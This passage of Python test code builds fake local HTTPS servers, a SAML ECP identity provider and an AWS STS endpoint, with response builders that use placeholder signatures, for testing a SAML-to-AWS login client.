                    pass
                self.shutdown_request(request)

    def handle_error(self, request, client_address):
        # Quiet: clients hanging up early (timeout tests) are normal here.
        self.fake._note('connection_errors', sys.exc_info()[1])


class _FakeHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'   # keep-alive works; we always frame bodies
    timeout = 10                    # idle keep-alive connections give up

    def log_message(self, format, *args):
        pass  # keep test output clean

    def handle_one_request(self):
        try:
            http.server.BaseHTTPRequestHandler.handle_one_request(self)
        except (ssl.SSLError, ConnectionError):
            if getattr(self, 'body', None) is not None:
                raise       # failed mid-request: recorded in connection_errors
            # A keep-alive client that hung up between requests (3.6-3.9 on
            # OpenSSL 3 see an SSLError for a close without close_notify).
            self.close_connection = True
        finally:
            self.body = None

    def _read_body(self):
        if 'chunked' in self.headers.get('Transfer-Encoding', '').lower():
            chunks = []
            while True:
                size = int(self.rfile.readline().split(b';')[0].strip(), 16)
                if size == 0:
                    while self.rfile.readline() not in (b'\r\n', b'\n', b''):
                        pass
                    return b''.join(chunks)
                chunks.append(self.rfile.read(size))
                self.rfile.readline()
        length = int(self.headers.get('Content-Length') or 0)
        return self.rfile.read(length) if length > 0 else b''

    def _dispatch(self):
        fake = self.server.fake
        try:
            # Always read the whole body first: closing a socket with unread
            # data makes the kernel send RST and the client may lose our answer.
            self.body = self._read_body()
        except ValueError:
            self._answer(400, {'Content-Type': 'text/plain'}, b'bad framing')
            return
        self.path_only = urlsplit(self.path).path
        fake._record(self)
        try:
            result = fake.override(self) if callable(fake.override) else fake.override
            if result is None:
                result = fake._respond(self)
        except Exception:
            # A bug in the fake or in a test's override: make it visible.
            fake._note('errors', traceback.format_exc())
            result = (500, {'Content-Type': 'text/plain'}, b'fake server error')
        self._answer(*result)

    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_HEAD = do_OPTIONS = _dispatch

    def _answer(self, status, headers, body):
        if status is None:
            self.close_connection = True    # hang up without answering
            return
        if isinstance(body, str):
            body = body.encode('utf-8')
        items = list(headers.items()) if hasattr(headers, 'items') else list(headers)
        self.send_response(status)
        for name, value in items:
            self.send_header(name, value)
        if 'content-length' not in [name.lower() for name, _ in items]:
            self.send_header('Content-Length', str(len(body)))
        else:
            # The test chose the framing (e.g. a truncated body): hang up after.
            self.close_connection = True
        self.end_headers()
        if self.command != 'HEAD':
            self.wfile.write(body)
        self.wfile.flush()


class _FakeServer(object):
    """Base class: start()/stop(), context manager, request log, override."""

    path = '/'

    def __init__(self, cert=SERVER_CERT_PEM, key=SERVER_KEY_PEM, tls=True):
        self.cert = cert
        self.key = key
        self.tls = tls
        self.lock = threading.RLock()
        self.requests = []          # one dict per HTTP request, see _record()
        self.override = None        # tuple or callable(handler) -> tuple/None
        self.errors = []            # tracebacks from the fake's own code
        self.tls_errors = []        # failed handshakes (client refused cert...)
        self.connection_errors = []  # clients that hung up mid-answer etc.
        self.port = None
        self._server = None
        self._thread = None
        self._stopping = threading.Event()

    # -- life cycle --------------------------------------------------------
    def start(self):
        ctx = server_context(self.cert, self.key) if self.tls else None
        self._stopping.clear()
        self._server = _ThreadingServer(self, ctx)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={'poll_interval': 0.05},
            name=type(self).__name__)
        self._thread.daemon = True
        self._thread.start()
        return self

    def stop(self):
        if self._server is None:
            return
        self._stopping.set()    # wakes handlers sleeping in .delay
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)
        self._server = None

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()

    # -- addresses ---------------------------------------------------------
    @property
    def host_port(self):
        return '127.0.0.1:%d' % self.port

    @property
    def base_url(self):
        return '%s://%s' % ('https' if self.tls else 'http', self.host_port)

    @property
    def url(self):
        return self.base_url + self.path

    # -- bookkeeping -------------------------------------------------------
    def _note(self, listname, item):
        with self.lock:
            getattr(self, listname).append(item)

    def _record(self, handler):
        record = {
            'method': handler.command,
            'path': handler.path,
            'headers': dict(handler.headers.items()),
            'body': handler.body,
            'cookie': handler.headers.get('Cookie'),
            'authorization': handler.headers.get('Authorization'),
        }
        self._note('requests', record)
        return record

    def _respond(self, handler):
        raise NotImplementedError


def _text(s):
    return s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')


def _attr(s, quote='"'):
    s = _text(s).replace('\n', '&#10;').replace('\t', '&#9;')
    return quote + s.replace(quote, '&quot;' if quote == '"' else '&apos;') + quote


def _utc(t=None):
    return time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(t))


def _random_id():
    return '_' + binascii.hexlify(os.urandom(16)).decode('ascii')


# ---------------------------------------------------------------------------
# 2. SAML ECP responses and the fake IdP
# ---------------------------------------------------------------------------

NS_SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/'
NS_SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol'
NS_SAML = 'urn:oasis:names:tc:SAML:2.0:assertion'
NS_ECP = 'urn:oasis:names:tc:SAML:2.0:profiles:SSO:ecp'
NS_DS = 'http://www.w3.org/2000/09/xmldsig#'
NS_XSI = 'http://www.w3.org/2001/XMLSchema-instance'
NS_XS = 'http://www.w3.org/2001/XMLSchema'
NS_STS = 'https://sts.amazonaws.com/doc/2011-06-15/'

PAOS_BINDING = 'urn:oasis:names:tc:SAML:2.0:bindings:PAOS'
STATUS_SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success'
STATUS_RESPONDER = 'urn:oasis:names:tc:SAML:2.0:status:Responder'
STATUS_AUTHN_FAILED = 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed'
STATUS_REQUESTER = 'urn:oasis:names:tc:SAML:2.0:status:Requester'
STATUS_VERSION_MISMATCH = 'urn:oasis:names:tc:SAML:2.0:status:VersionMismatch'
ROLE_ATTR = 'https://aws.amazon.com/SAML/Attributes/Role'
SESSION_NAME_ATTR = 'https://aws.amazon.com/SAML/Attributes/RoleSessionName'
SESSION_DURATION_ATTR = 'https://aws.amazon.com/SAML/Attributes/SessionDuration'
AWS_SP_ENTITY_ID = 'urn:amazon:webservices'
AWS_ACS_URLS = ('https://signin.aws.amazon.com/saml',
                'https://signin.amazonaws.cn/saml',
                'https://signin.amazonaws-us-gov.com/saml')
IDP_ENTITY_ID = 'https://idp.example.edu/idp/shibboleth'

# prefix_style -> (SOAP, protocol, assertion) prefixes
_PREFIXES = {'odd': ('S', 'saml2p', 'saml2'), 'plain': ('soap11', 'samlp', 'saml')}


def _fake_signature(reference_id):
    """A ds:Signature of realistic shape (values are random, not a signature).

    Like Java/Santuario IdPs, base64 is wrapped with '&#13;' + newline, a
    byte sequence a re-serialiser would not reproduce.
    """
    digest = base64.b64encode(hashlib.sha256(reference_id.encode()).digest())
    value = base64.b64encode(os.urandom(256)).decode('ascii')
    value = '&#13;\n'.join(value[i:i + 76] for i in range(0, len(value), 76))
    cert = ''.join(SERVER_CERT_PEM.strip().splitlines()[1:-1])
    return (
        '<ds:Signature xmlns:ds="%s"><ds:SignedInfo>'
        '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        '<ds:Reference URI="#%s"><ds:Transforms>'
        '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
        '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#">'
        '<ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="xs"/>'
        '</ds:Transform></ds:Transforms>'
        '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        '<ds:DigestValue>%s</ds:DigestValue></ds:Reference></ds:SignedInfo>'
        '<ds:SignatureValue>%s</ds:SignatureValue>'
        '<ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate>'
        '</ds:X509Data></ds:KeyInfo></ds:Signature>'
        % (NS_DS, reference_id, digest.decode('ascii'), value, cert))


def _envelope(response_text, acs_url, prefix_style, ecp_header):
    """Wrap a Response in a SOAP 1.1 envelope.

    Returns (envelope_bytes, response_bytes, inherited_ns).
    """
    soap, p, a = _PREFIXES[prefix_style]
    if prefix_style == 'odd':
        # saml2p/saml2/xsi only on the Envelope and xs only on the Body: the
        # Response is not well-formed on its own without them.
        inherited = {soap: NS_SOAP11, p: NS_SAMLP, a: NS_SAML, 'xsi': NS_XSI, 'xs': NS_XS}
        open_env = ('<%s:Envelope xmlns:%s="%s" xmlns:%s="%s"\n    xmlns:%s="%s" xmlns:xsi="%s">'
                    % (soap, soap, NS_SOAP11, p, NS_SAMLP, a, NS_SAML, NS_XSI))
        open_body = '<%s:Body xmlns:xs="%s">' % (soap, NS_XS)
    else:
        inherited = {soap: NS_SOAP11}
        open_env = '<%s:Envelope xmlns:%s="%s">' % (soap, soap, NS_SOAP11)
        open_body = '<%s:Body>' % soap
    header = ''
    if ecp_header:
        header = ('<%s:Header><ecp:Response xmlns:ecp="%s" %s:mustUnderstand="1" '
                  '%s:actor="http://schemas.xmlsoap.org/soap/actor/next" '
                  'AssertionConsumerServiceURL=%s/></%s:Header>'
                  % (soap, NS_ECP, soap, soap, _attr(acs_url), soap))
    text = ('<?xml version="1.0" encoding="UTF-8"?>\n%s\n%s\n%s%s</%s:Body></%s:Envelope>\n'
            % (open_env, header, open_body, response_text, soap, soap))
    return text.encode('utf-8'), response_text.encode('utf-8'), inherited


def _response_open(p, prefix_style, acs_url, request_id, now):
    if prefix_style == 'odd':
        # Odd layout on purpose: newlines, tabs, single quotes.
        return ("<%s:Response Destination=%s\n\t\tID='%s'   InResponseTo=%s\n"
                "  IssueInstant=\"%s\" Version='2.0'\n>"
                % (p, _attr(acs_url, "'"), _random_id(), _attr(request_id), _utc(now)))
    return ('<%s:Response xmlns:%s="%s" xmlns:saml="%s" xmlns:xs="%s" xmlns:xsi="%s" '
            'Destination=%s ID="%s" InResponseTo=%s IssueInstant="%s" Version="2.0">'
            % (p, p, NS_SAMLP, NS_SAML, NS_XS, NS_XSI, _attr(acs_url), _random_id(),
               _attr(request_id), _utc(now)))


def build_success_envelope(request_id, acs_url, roles, session_name=None,
                           session_duration=None, name_id=None,
                           issuer=IDP_ENTITY_ID, prefix_style='odd',
                           encrypted=False, ecp_acs_url=None, ecp_header=True,
                           now=None, lifetime=300):
    """Build an ECP success answer as an IdP would send it.

    roles: list of raw Role attribute values (anything, even garbage);
    None or [] leaves the Role attribute out. session_name None leaves
    RoleSessionName out; session_duration None leaves SessionDuration out.
    encrypted=True puts an EncryptedAssertion where the Assertion would be.
    ecp_acs_url: ACS URL for the ecp:Response header (default acs_url);
    ecp_header=False leaves the SOAP Header out.
    prefix_style: 'odd' (S/saml2p/saml2, namespaces inherited from the
    Envelope/Body, odd whitespace and quoting) or 'plain' (soap11/samlp/saml,
    declared on the Response itself).

    Returns (envelope_bytes, response_bytes, inherited_ns): response_bytes is
    the exact <...:Response>...</...:Response> slice of envelope_bytes;
    inherited_ns maps prefix -> URI of every declaration the Response gets
    from its ancestors.
    """
    now = time.time() if now is None else now
    soap, p, a = _PREFIXES[prefix_style]
    name_id = name_id or session_name or 'user'
    assertion_id = _random_id()
    if encrypted:
        assertion = (
            '<%s:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" '
            'Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod '
            'Algorithm="http://www.w3.org/2009/xmlenc11#aes128-gcm"/><xenc:CipherData>'
            '<xenc:CipherValue>%s</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>'
            '</%s:EncryptedAssertion>'
            % (a, base64.b64encode(os.urandom(300)).decode('ascii'), a))
    else:
        def attribute(name, friendly, values):
            vals = ''.join('\n        <%s:AttributeValue xsi:type="xs:string">%s</%s:AttributeValue>'
                           % (a, _text(v), a) for v in values)
            return ('\n      <%s:Attribute FriendlyName="%s" Name="%s"\n'
                    "          NameFormat='urn:oasis:names:tc:SAML:2.0:attrname-format:uri'>%s\n"
                    '      </%s:Attribute>' % (a, friendly, name, vals, a))
        attrs = ''
        if roles:
            attrs += attribute(ROLE_ATTR, 'Role', roles)
        if session_name is not None:
            attrs += attribute(SESSION_NAME_ATTR, 'RoleSessionName', [session_name])
        if session_duration is not None:
            attrs += attribute(SESSION_DURATION_ATTR, 'SessionDuration', [str(session_duration)])
        fmt = dict(a=a, aid=assertion_id, now=_utc(now), later=_utc(now + lifetime),
                   issuer=_text(issuer), issuer_attr=_attr(issuer), name_id=_text(name_id),
                   acs=_attr(acs_url), rid=_attr(request_id), sig=_fake_signature(assertion_id),
                   session_index=_random_id(), attrs=attrs)
        assertion = (
            '<{a}:Assertion ID="{aid}" IssueInstant="{now}" Version="2.0">\n'
            '    <{a}:Issuer>{issuer}</{a}:Issuer>{sig}\n'
            '    <{a}:Subject>\n'
            '      <{a}:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient"'
            ' NameQualifier={issuer_attr} SPNameQualifier="urn:amazon:webservices">{name_id}</{a}:NameID>\n'
            '      <{a}:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
            '<{a}:SubjectConfirmationData Address="127.0.0.1" InResponseTo={rid}'
            ' NotOnOrAfter="{later}" Recipient={acs}/></{a}:SubjectConfirmation>\n'
            '    </{a}:Subject>\n'
            '    <{a}:Conditions NotBefore="{now}" NotOnOrAfter="{later}">'
            '<{a}:AudienceRestriction><{a}:Audience>urn:amazon:webservices</{a}:Audience>'
            '</{a}:AudienceRestriction></{a}:Conditions>\n'
            '    <{a}:AuthnStatement AuthnInstant="{now}" SessionIndex="{session_index}">'
            '<{a}:AuthnContext><{a}:AuthnContextClassRef>'
            'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport'
            '</{a}:AuthnContextClassRef></{a}:AuthnContext></{a}:AuthnStatement>\n'
            '    <{a}:AttributeStatement>{attrs}\n'
            '    </{a}:AttributeStatement>\n'
            '  </{a}:Assertion>').format(**fmt)
    response = (
        '%s<%s:Issuer>%s</%s:Issuer>\n'
        "  <%s:Status>\n     <%s:StatusCode Value='%s'/>\n  </%s:Status>\n"
        '  %s\n</%s:Response>'
        % (_response_open(p, prefix_style, acs_url, request_id, now), a, _text(issuer), a,
           p, p, STATUS_SUCCESS, p, assertion, p))
    return _envelope(response, ecp_acs_url or acs_url, prefix_style, ecp_header)


def build_status_envelope(request_id, acs_url, status=STATUS_RESPONDER,
                          sub_status=STATUS_AUTHN_FAILED, message='WRONGUSERPASS',
                          issuer=IDP_ENTITY_ID, prefix_style='odd', ecp_header=True,
                          now=None):
    """An ECP answer with a non-Success status and no assertion, shaped like
    SimpleSAMLphp's wrong-password answer (HTTP 200, no SOAP Fault).
    Returns (envelope_bytes, response_bytes, inherited_ns)."""
    soap, p, a = _PREFIXES[prefix_style]
    code = "<%s:StatusCode Value='%s'" % (p, status)
    if sub_status:
        code += '>\n       <%s:StatusCode Value="%s"/>\n     </%s:StatusCode>' % (p, sub_status, p)
    else:
        code += '/>'
    if message is not None:
        code += '\n     <%s:StatusMessage>%s</%s:StatusMessage>' % (p, _text(message), p)
    response = ('%s<%s:Issuer>%s</%s:Issuer>\n  <%s:Status>\n     %s\n  </%s:Status>\n</%s:Response>'
                % (_response_open(p, prefix_style, acs_url, request_id, now), a,
                   _text(issuer), a, p, code, p, p))
    return _envelope(response, acs_url, prefix_style, ecp_header)


def soap_fault(faultstring, faultcode='S:Server'):
    """HTTP 500 SOAP 1.1 Fault answer tuple."""
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<S:Envelope xmlns:S="%s"><S:Body><S:Fault><faultcode>%s</faultcode>'
            '<faultstring>%s</faultstring></S:Fault></S:Body></S:Envelope>\n'
            % (NS_SOAP11, faultcode, _text(faultstring)))
    return (500, {'Content-Type': 'text/xml'}, body.encode('utf-8'))


_LOGIN_PAGE_PATH = '/idp/profile/SAML2/Redirect/SSO'
_LOGIN_PAGE = (b'<!DOCTYPE html>\n<html><head><title>Web Login Service</title></head>'
               b'<body><form method="post" action="/idp/profile/SAML2/Redirect/SSO?execution=e1s1">'
               b'<input name="j_username"><input type="password" name="j_password">'
               b'<button type="submit">Login</button></form></body></html>\n')
_HTML = {'Content-Type': 'text/html;charset=utf-8'}

DUO_HEADERS = ('X-Shibboleth-Duo-Factor', 'X-Shibboleth-Duo-Passcode')
DUO_HEADERS_MISSPELLED = ('X-Shiboleth-Duo-Factor', 'X-Shiboleth-Duo-Passcode')


def _parse_basic(header):
    """(username, password) from a Basic Authorization header, or None."""
    scheme, _, token = header.strip().partition(' ')
    if scheme.lower() != 'basic':
        return None
    try:
        raw = base64.b64decode(token.strip().encode('ascii'), validate=True)
    except (ValueError, UnicodeEncodeError, binascii.Error):
        return None
    try:
        text = raw.decode('utf-8')
    except UnicodeDecodeError:
        text = raw.decode('latin-1')
    user, sep, password = text.partition(':')
    return (user, password) if sep else None


def _cookie_value(header, name):
    for part in (header or '').split(';'):
        key, sep, value = part.strip().partition('=')
        if sep and key.strip() == name:
            return value.strip().strip('"')
    return None


class FakeIdP(_FakeServer):
    """A SAML ECP identity provider (Shibboleth / SimpleSAMLphp behaviour).

    Configure through attributes (all may be changed while running):
      users            username -> dict(password=..., roles=[raw Role values],
                       session_duration=int|None, role_session_name=str|None)
      require_factor   None, or a set of accepted Duo factor values
      expected_passcode  the passcode accepted with factor 'passcode'
      factor_header_names  list of (factor_header, passcode_header) pairs read
      delay            seconds to wait before answering a password login
      failure_style    'responder' | '401' | 'fault' | 'html'
      prefix_style     'odd' | 'plain' (see build_success_envelope)
      acs_override     ACS URL to put in the ecp:Response header instead
      allowed_acs      set of ACS URLs accepted in requests (None: any)
      max_request_age  seconds of IssueInstant skew accepted (None: no check)
      assertion_lifetime  seconds from issue to the assertion's NotOnOrAfter
      override         (status, headers, body) or callable(handler) -> tuple
                       or None (None: carry on normally); status None hangs up
    Results: requests, sessions, logins, failed_logins, rejections,
      last_envelope, last_response_bytes, last_inherited_ns, last_request_id,
      last_acs_url, errors, tls_errors, connection_errors.
    """

    path = '/idp/profile/SAML2/SOAP/ECP'

    def __init__(self, cert=SERVER_CERT_PEM, key=SERVER_KEY_PEM, tls=True,
                 failure_style='responder', prefix_style='odd',
                 entity_id=IDP_ENTITY_ID):
        super(FakeIdP, self).__init__(cert, key, tls)
        self.users = {}
        self.require_factor = None
        self.expected_passcode = None
        self.factor_header_names = [DUO_HEADERS, DUO_HEADERS_MISSPELLED]
        self.delay = 0
        self.failure_style = failure_style
        self.prefix_style = prefix_style
        self.entity_id = entity_id
        self.acs_override = None
        self.allowed_acs = set(AWS_ACS_URLS)
        self.max_request_age = 300
        self.assertion_lifetime = 300   # seconds to the assertion's NotOnOrAfter
        self.cookie_name = 'shib_idp_session'
        self.sessions = {}          # cookie value -> username
        self.logins = []            # (username, 'password' | 'session')
        self.failed_logins = []     # (username or None, reason)
        self.rejections = []        # why a request got the 303 redirect
        self.last_envelope = None
        self.last_response_bytes = None
        self.last_inherited_ns = None
        self.last_request_id = None
        self.last_acs_url = None

    def expire_sessions(self):
        """Forget every IdP session, as when the IdP session times out."""
        with self.lock:
            self.sessions.clear()

    # -- request handling --------------------------------------------------
    def _respond(self, handler):
        if handler.path_only == _LOGIN_PAGE_PATH:
            return (200, _HTML, _LOGIN_PAGE)
        if handler.path_only != self.path:
            return (404, _HTML, b'<html><body>Not Found</body></html>')
        if handler.command != 'POST':
            return (405, dict(_HTML, Allow='POST'), b'<html><body>Method Not Allowed</body></html>')
        ctype = handler.headers.get('Content-Type', '').split(';')[0].strip().lower()
        if ctype != 'text/xml':
            # SimpleSAMLphp answers 405 to e.g. application/soap+xml.
            return (405, _HTML, b'<html><body>Unsupported content type</body></html>')
        request_id, acs_or_reason = self._parse_authn_request(handler.body)
        if request_id is None:
            # Not an ECP request: a browser-style redirect to a login page.
            self._note('rejections', acs_or_reason)
            return (303, dict(_HTML, Location=self.base_url + _LOGIN_PAGE_PATH + '?execution=e1s1'),
                    b'<html><body>See Other</body></html>')
        acs_url = acs_or_reason

        extra_headers = {}
        auth = handler.headers.get('Authorization')
        if auth is not None:
            # A password login (an Authorization header wins over a cookie).
            if self.delay:
                self._stopping.wait(self.delay)     # a Duo push being answered
            creds = _parse_basic(auth)
            username = creds[0] if creds else None
            user = self.users.get(username)
            reason = None
            if user is None or creds[1] != user.get('password'):
                reason = 'bad username or password'
            elif self.require_factor is not None:
                reason = self._check_factor(handler.headers)
            if reason:
                self._note('failed_logins', (username, reason))
                return self._failure(request_id, acs_url)
            session = binascii.hexlify(os.urandom(16)).decode('ascii')
            with self.lock:
                self.sessions[session] = username
            # A session cookie (no Expires); Secure only makes sense on HTTPS.
            extra_headers['Set-Cookie'] = '%s=%s; Path=/;%s HttpOnly' % (
                self.cookie_name, session, ' Secure;' if self.tls else '')
            self._note('logins', (username, 'password'))
        else:
            session = _cookie_value(handler.headers.get('Cookie'), self.cookie_name)
            with self.lock:
                username = self.sessions.get(session) if session else None
            if username is None or username not in self.users:
                return (401, dict(_HTML, **{'WWW-Authenticate': 'Basic realm="IdP"'}),
                        b'<html><body>Unauthorized</body></html>')
            self._note('logins', (username, 'session'))
            user = self.users[username]

        envelope, response_bytes, inherited = build_success_envelope(
            request_id, acs_url, user.get('roles') or [],
            session_name=user.get('role_session_name') or username,
            session_duration=user.get('session_duration'),
            name_id=username, issuer=self.entity_id, prefix_style=self.prefix_style,
            ecp_acs_url=self.acs_override, lifetime=self.assertion_lifetime)
        with self.lock:
            self.last_envelope = envelope
            self.last_response_bytes = response_bytes
            self.last_inherited_ns = inherited
            self.last_request_id = request_id
            self.last_acs_url = acs_url
        extra_headers['Content-Type'] = 'text/xml'
        return (200, extra_headers, envelope)

    def _check_factor(self, headers):
        """None if the Duo headers are acceptable, else the reason."""
        for factor_name, passcode_name in self.factor_header_names:
            factor = headers.get(factor_name)
            if factor is None:
                continue
            if factor not in self.require_factor:
                return 'factor %r not accepted' % factor
            if factor == 'passcode' and headers.get(passcode_name) != self.expected_passcode:
                return 'wrong passcode'
            return None
        return 'no factor header'

    def _failure(self, request_id, acs_url):
        style = self.failure_style
        if style == 'responder':
            envelope = build_status_envelope(request_id, acs_url, issuer=self.entity_id,
                                             prefix_style=self.prefix_style)[0]
            return (200, {'Content-Type': 'text/xml'}, envelope)
        if style == '401':
            return (401, dict(_HTML, **{'WWW-Authenticate': 'Basic realm="IdP"'}),
                    b'<html><body>Unauthorized</body></html>')
        if style == 'fault':
            return soap_fault('Authentication failed')
        if style == 'html':
            return (200, _HTML, _LOGIN_PAGE)
        raise ValueError('unknown failure_style %r' % style)

    def _parse_authn_request(self, body):
        """(request_id, acs_url), or (None, reason) when not acceptable."""
        if b'<!DOCTYPE' in body.upper():
            return None, 'DOCTYPE in request'
        try:
            root = ET.fromstring(body)
        except ET.ParseError as e:
            return None, 'malformed XML: %s' % e
        if root.tag != '{%s}Envelope' % NS_SOAP11:
            return None, 'not a SOAP 1.1 envelope: %s' % root.tag
        req = root.find('{%s}Body/{%s}AuthnRequest' % (NS_SOAP11, NS_SAMLP))
        if req is None:
            return None, 'no samlp:AuthnRequest in the SOAP Body'
        request_id = req.get('ID') or ''
        acs_url = req.get('AssertionConsumerServiceURL')
        issuer = req.findtext('{%s}Issuer' % NS_SAML)
        if not re.match(r'^[A-Za-z_][A-Za-z0-9_.-]*$', request_id):
            return None, 'bad ID %r' % request_id
        if req.get('Version') != '2.0':
            return None, 'bad Version %r' % req.get('Version')
        if req.get('ProtocolBinding') != PAOS_BINDING:
            return None, 'ProtocolBinding is not PAOS: %r' % req.get('ProtocolBinding')
        if not acs_url or (self.allowed_acs is not None and acs_url not in self.allowed_acs):
            return None, 'ACS URL not registered: %r' % acs_url
        if (issuer or '').strip() != AWS_SP_ENTITY_ID:
            return None, 'unknown SP issuer %r' % issuer
        instant = req.get('IssueInstant') or ''
        m = re.match(r'^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(\.\d+)?Z$', instant)
        if not m:
            return None, 'bad IssueInstant %r' % instant
        if self.max_request_age is not None:
            issued = calendar.timegm(time.strptime(m.group(1), '%Y-%m-%dT%H:%M:%S'))
            if abs(time.time() - issued) > self.max_request_age:
                return None, 'IssueInstant too far from now: %r' % instant
        return request_id, acs_url


# ---------------------------------------------------------------------------
# 3. The fake STS
# ---------------------------------------------------------------------------

def sts_error(code, message, status=400, type='Sender'):
    """An STS ErrorResponse answer tuple (status, headers, body)."""
    request_id = str(uuid.uuid4())
    body = ('<ErrorResponse xmlns="%s">\n  <Error>\n    <Type>%s</Type>\n'
            '    <Code>%s</Code>\n    <Message>%s</Message>\n  </Error>\n'
            '  <RequestId>%s</RequestId>\n</ErrorResponse>\n'
            % (NS_STS, type, _text(code), _text(message), request_id))
    return (status, {'Content-Type': 'text/xml', 'x-amzn-RequestId': request_id},
            body.encode('utf-8'))


_ROLE_ARN_RE = re.compile(r'^arn:(aws|aws-cn|aws-us-gov):iam::(\d{12}):role/(?:[\w+=,.@-]+/)*([\w+=,.@-]+)$')
_PROVIDER_ARN_RE = re.compile(r'^arn:(aws|aws-cn|aws-us-gov):iam::(\d{12}):saml-provider/([\w.-]+)$')
_B32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'


def _random_chars(alphabet, n):
    return ''.join(alphabet[b % len(alphabet)] for b in bytearray(os.urandom(n)))


def _unbound_qname_value(data):
    """The first xsi:type value whose prefix is not in scope, or None.

    ElementTree itself rejects unbound element/attribute prefixes but not
    prefixes inside attribute values such as xsi:type="xs:string".
    """
    scopes = [{'xml': 'http://www.w3.org/XML/1998/namespace'}]
    pending = {}
    xsi_type = '{%s}type' % NS_XSI
    for event, item in ET.iterparse(io.BytesIO(data), events=('start-ns', 'start', 'end')):
        if event == 'start-ns':
            pending[item[0]] = item[1]
        elif event == 'start':
            scope = dict(scopes[-1])
            scope.update(pending)
            pending = {}
            scopes.append(scope)
            value = item.get(xsi_type)
            if value and ':' in value and value.split(':', 1)[0] not in scope:
                return value
        else:
            scopes.pop()
    return None


def _inspect_saml_response(data, role_arn, principal_arn):
    """Check a decoded SAMLAssertion like STS would; (info, None) or (None, why)."""
    if b'<!DOCTYPE' in data.upper():
        return None, 'DOCTYPE not allowed'
    try:
        root = ET.fromstring(data)
        unbound = _unbound_qname_value(data)
    except ET.ParseError as e:
        return None, 'Invalid SAML response: %s' % e
    if root.tag != '{%s}Response' % NS_SAMLP:
        return None, 'Invalid SAML response: root element is %s' % root.tag
    if unbound:
        return None, 'Invalid SAML response: unbound prefix in xsi:type=%r' % unbound
    status = root.find('{%s}Status/{%s}StatusCode' % (NS_SAMLP, NS_SAMLP))
    if status is None or status.get('Value') != STATUS_SUCCESS:
        return None, 'SAML response status is not Success'
    assertion = root.find('{%s}Assertion' % NS_SAML)
    if assertion is None:
        return None, 'No valid assertion in the SAML response'
    attrs = {}
    for attr in assertion.iter('{%s}Attribute' % NS_SAML):
        attrs[attr.get('Name')] = [(v.text or '').strip()
                                   for v in attr.findall('{%s}AttributeValue' % NS_SAML)]
    pair = set([role_arn, principal_arn])
    if not any(set(p.strip() for p in v.split(',')) == pair for v in attrs.get(ROLE_ATTR, [])):
        return None, 'Not authorized to assume role %s with provider %s' % (role_arn, principal_arn)
    session_names = attrs.get(SESSION_NAME_ATTR)
    if not session_names or not re.match(r'^[\w+=,.@-]{2,64}$', session_names[0]):
        return None, 'RoleSessionName is missing or invalid'
    name_id = assertion.find('{%s}Subject/{%s}NameID' % (NS_SAML, NS_SAML))
    confirmation = assertion.find('{%s}Subject/{%s}SubjectConfirmation/{%s}SubjectConfirmationData'
                                  % (NS_SAML, NS_SAML, NS_SAML))
    durations = attrs.get(SESSION_DURATION_ATTR)
    return {
        'issuer': (assertion.findtext('{%s}Issuer' % NS_SAML) or '').strip(),
        'subject': (name_id.text or '').strip() if name_id is not None else '',
        'subject_type': ((name_id.get('Format') or '').rsplit(':', 1)[-1]
                         if name_id is not None else 'transient'),
        'audience': (confirmation.get('Recipient') if confirmation is not None else None)
        or AWS_ACS_URLS[0],
        'session_name': session_names[0],
        'session_duration': int(durations[0]) if durations and durations[0].isdigit() else None,
    }, None


class FakeSTS(_FakeServer):
    """STS answering the unsigned AssumeRoleWithSAML call.

    Attributes: queue (answer tuples served first, one per request), issued
    (credential dicts handed out), microseconds (moto-style Expiration),
    max_duration (every role's MaxSessionDuration), max_durations (role ARN ->
    its own), clock (time source),
    override, requests (each with a parsed 'form' dict), errors, tls_errors.
    """

    path = '/'

    def __init__(self, cert=SERVER_CERT_PEM, key=SERVER_KEY_PEM, tls=True):
        super(FakeSTS, self).__init__(cert, key, tls)
        self.queue = []
        self.issued = []
        self.microseconds = False
        self.max_duration = 43200
        self.max_durations = {}     # role ARN -> its MaxSessionDuration, else max_duration
        self.clock = time.time
        self.external_ids = {}      # role ARN -> the ExternalId its trust policy requires
        self.region = 'us-east-1'   # the signing region signed calls must name

    def _record(self, handler):
        record = super(FakeSTS, self)._record(handler)
        ctype = handler.headers.get('Content-Type', '').split(';')[0].strip().lower()
        form = {}
        if ctype == 'application/x-www-form-urlencoded':
            # Note: an unescaped '+' in the base64 becomes a space here, as
            # on the real service.
            form = dict(parse_qsl(handler.body.decode('utf-8', 'replace'),
                                  keep_blank_values=True))
        record['form'] = form
        handler.form = form
        return record

    def _respond(self, handler):
        with self.lock:
            queued = self.queue.pop(0) if self.queue else None
        if queued is not None:
            return queued
        if handler.path_only != '/':
            return (404, {'Content-Type': 'text/plain'}, b'Not Found')
        if handler.command != 'POST':
